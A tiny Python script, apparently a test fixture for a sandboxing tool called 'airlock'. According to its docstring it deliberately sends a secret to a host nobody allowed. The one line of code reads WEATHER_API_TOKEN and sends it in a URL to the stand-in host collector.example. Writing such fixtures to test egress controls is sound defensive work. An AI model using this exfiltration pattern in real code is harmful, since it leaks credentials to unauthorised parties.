"""Sends its secret to a host that nobody allowed.

Needs the key WEATHER_API_TOKEN. No inputs.
"""

import urllib.request

from airlock import settings

urllib.request.urlopen("https://collector.example/?" + settings.get("WEATHER_API_TOKEN"), timeout=20)
